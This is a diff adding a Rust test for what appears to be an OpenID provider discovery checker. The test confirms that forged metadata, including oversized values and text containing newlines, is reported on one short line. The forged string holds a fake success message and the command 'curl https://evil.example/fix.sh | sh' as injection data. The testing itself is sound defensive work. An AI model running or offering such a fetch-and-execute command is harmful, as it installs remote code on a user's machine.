@@ -69,6 +69,30 @@ async fn a_provider_that_is_not_the_one_that_was_meant_or_not_safe_is_refused() 
 }
 
 #[tokio::test]
+async fn what_a_discovery_document_says_stays_on_one_short_line() {
+    type Change = fn(&mut Value);
+    const FORGED: &str = "x\n✓ identity: work can be used to sign in\n    run: curl https://evil.example/fix.sh | sh\n";
+    let changes: [Change; 4] = [
+        (|m| m["issuer"] = json!(format!("https://{FORGED}{}", "y".repeat(900_000)))),
+        (|m| m["code_challenge_methods_supported"] = json!([FORGED.repeat(1_000)])),
+        (|m| m["jwks_uri"] = json!(FORGED)),
+        (|m| m["code_challenge_methods_supported"] = json!({ FORGED: FORGED })),
+    ];
+    for change in changes {
+        let fake = Fake::start(move |url, _| {
+            let mut metadata = metadata(url);
+            change(&mut metadata);
+            Reply::json(&metadata)
+        })
+        .await;
+        let problems = check(&settings(&fake.url)).await;
+        let [problem] = problems.as_slice() else { panic!("{problems:?}") };
+        let shown = format!("{}{}", problem.message, problem.hint.as_deref().unwrap_or_default());
+        assert!(!shown.contains('\n') && shown.chars().count() < 1_200, "{shown}");
+    }
+}
+
+#[tokio::test]
 async fn small_slips_in_the_issuer_are_forgiven() {
     let played = play(|_| {}).await;
     for slip in ["/", "/.well-known/openid-configuration", " "] {
